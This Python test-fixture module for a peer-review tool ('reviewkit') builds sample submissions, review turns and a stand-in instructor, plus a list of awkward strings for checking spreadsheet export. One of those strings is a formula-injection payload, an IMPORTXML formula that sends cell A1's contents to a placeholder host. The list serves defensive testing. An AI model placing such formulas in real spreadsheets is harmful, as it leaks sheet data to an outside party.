"""The class that the sheet's tests show: Ann and Dan wrote, Bob reviewed, Prof signs. Some of it is nasty text."""

from dataclasses import replace

from reviewkit.sheet import DialogueRow, KeyRow, Projection, RoundRow, RubricRow, SignOffRow, Typed

ANN = "RK-A0000001"
DAN = "RK-D0000002"

NASTY = (
    '=IMPORTXML("https://eve.example/?" & A1; "//a")',
    "+1",
    "-1+2",
    "@SUM(A1)",
    "'quoted",
    "=",
    "2024-01-01",
    "1/2",
    "007",
    "1e5",
    "TRUE",
    "#N/A",
    "two\nlines\n",
    "  spaces around  ",
    "tab\tinside",
    "emoji 🦊👩‍🔬",
    "שלום עולם",
    "العربية",
    "_x0041_",
    "<b>&amp;</b>",
    'say "hi", please',
)
"""Texts of people that spreadsheets like to take for something else."""


def turn(number: int, text: str, *, submission: str = ANN) -> DialogueRow:
    return DialogueRow(
        id=f"RK-{number:08X}",
        submission=submission,
        student="Ann",
        sequence=number,
        kind="review",
        by="Bob",
        at="2025-10-07T14:03:22Z",
        via="page",
        levels="Evidence: Secure",
        text=text,
        digest=f"{number:064x}",
    )


def projection(**changes: object) -> Projection:
    whole = Projection(
        course="Slow Reading",
        generated="2025-10-08T09:00:00Z",
        submissions=(
            SignOffRow(
                id=ANN,
                student="Ann",
                assignment="essay",
                post="On patience",
                link="https://ann.example/patience",
                self_grade="82",
                peers_median="80",
                peers_range="74-88",
                stage="with instructor",
                waiting_for="Prof",
            ),
            SignOffRow(id=DAN, student="Dan", assignment="essay", post="=1+1", self_grade="007", stage="in review"),
        ),
        turns=tuple(turn(number, text) for number, text in enumerate(NASTY)),
        rubrics=(
            RubricRow(rubric="essay", version="c0ffee", criterion="evidence", levels="Emerging: ...\nSecure: ..."),
        ),
        rounds=(RoundRow(assignment="essay", title="An essay", freeze_by="2025-10-01 23:59", submissions=2),),
        keys=(
            KeyRow(submission=ANN, role="author", pseudonym="Quiet Heron", person="ann", name="Ann"),
            KeyRow(submission=ANN, role="reviewer", pseudonym="Amber Vole", person="bob", name="Bob"),
        ),
    )
    return replace(whole, **changes)  # type: ignore[arg-type]  # the tests name the fields


class Prof:
    """Stands for the course: keeps what was typed, answers in the row, and shows the projection it was given."""

    def __init__(self, shows: Projection | None = None) -> None:
        self.shows = shows or projection()
        self.heard: list[list[Typed]] = []

    def __call__(self, typed: list[Typed]) -> Projection:
        typed = [each for each in typed if each != Typed(submission=each.submission)]
        self.heard.append(typed)
        answers = {each.submission: f"Heard: {each.decision} {each.grade}".strip() for each in typed}
        rows = (replace(row, status=answers.get(row.id, "")) for row in self.shows.submissions)
        return replace(self.shows, submissions=tuple(rows))

    @property
    def last(self) -> list[Typed]:
        return self.heard[-1]
